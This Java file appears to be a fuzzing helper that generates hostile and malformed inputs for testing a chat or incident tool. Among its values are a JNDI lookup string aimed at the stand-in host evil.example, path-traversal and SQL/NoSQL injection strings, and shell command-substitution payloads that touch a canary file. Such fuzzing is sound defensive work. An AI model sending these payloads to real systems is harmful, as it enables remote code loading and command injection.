package io.frops.checks.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import java.math.BigInteger;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/// Values that programs trip over.
///
/// @param trap a file that a shell would make, and an address that a client would fetch
record Nasty(String trap, String address) {
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    private static final List<String> TEXTS =
            List.of(
                    "",
                    " ",
                    "\n\n",
                    "\0",
                    "\u202E",
                    "\uD800",
                    "\uD83E\uDD84",
                    "\uFFFF",
                    "<!channel>",
                    "<https://evil.example|click>",
                    "*bold* _it_ ~no~ `code` ```",
                    "&lt;&amp;",
                    "%s%n%x",
                    "%zz",
                    "${env:HOME}",
                    "${jndi:ldap://evil.example/a}",
                    "../../etc/passwd",
                    "@/etc/passwd",
                    "' OR '1'='1",
                    "{\"$gt\": \"\"}",
                    "\"",
                    "\\",
                    "--",
                    "--yes",
                    "--assume=x",
                    "--for=999999999999999999d",
                    "-1",
                    "INC-1",
                    "INC-99999999999999999999",
                    "SEV1",
                    "sev0",
                    "NaN",
                    "1e999",
                    "2026-02-30T25:61:61Z",
                    "0001-01-01T00:00:00Z",
                    "+999999999-12-31T23:59:59Z",
                    "-999999999-01-01T00:00:00Z",
                    "U0ANA0001",
                    "C0INCIDENT",
                    "T0SANDBOX",
                    "resolved",
                    "firing",
                    "&a [*a, *a]",
                    "!!java.net.URL",
                    ": : :",
                    "- - -",
                    "${UNSET}",
                    "${",
                    "a,".repeat(2000),
                    "a".repeat(5000),
                    "\uD83E\uDD84".repeat(3000),
                    "\n".repeat(500),
                    "<".repeat(4000));

    /// One of them.
    String text(Random random) {
        return switch (random.nextInt(12)) {
            case 0 -> "$(touch " + trap + ")";
            case 1 -> "`touch " + trap + "`; touch " + trap;
            case 2 -> address;
            default -> TEXTS.get(random.nextInt(TEXTS.size()));
        };
    }

    JsonNode node(Random random) {
        return switch (random.nextInt(14)) {
            case 0 -> JSON.nullNode();
            case 1 -> JSON.booleanNode(random.nextBoolean());
            case 2 -> JSON.numberNode(0);
            case 3 -> JSON.numberNode(-1);
            case 4 -> JSON.numberNode(Long.MAX_VALUE);
            case 5 -> JSON.numberNode(1.0e308);
            case 6 -> JSON.numberNode(BigInteger.TEN.pow(400));
            case 7 -> JSON.objectNode();
            case 8 -> JSON.arrayNode();
            case 9 -> deep(random.nextInt(600));
            case 10 -> many(random);
            default -> JSON.textNode(text(random));
        };
    }

    private static JsonNode deep(int levels) {
        JsonNode inner = JSON.textNode("in");
        for (int i = 0; i < levels; i++) {
            inner = i % 2 == 0 ? JSON.arrayNode().add(inner) : JSON.objectNode().set("x", inner);
        }
        return inner;
    }

    private JsonNode many(Random random) {
        ArrayNode array = JSON.arrayNode();
        List<JsonNode> few = new ArrayList<>(List.of(JSON.numberNode(1), JSON.objectNode()));
        few.add(JSON.textNode(text(random)));
        for (int i = 0; i < 120; i++) {
            array.add(few.get(i % few.size()));
        }
        return array;
    }
}
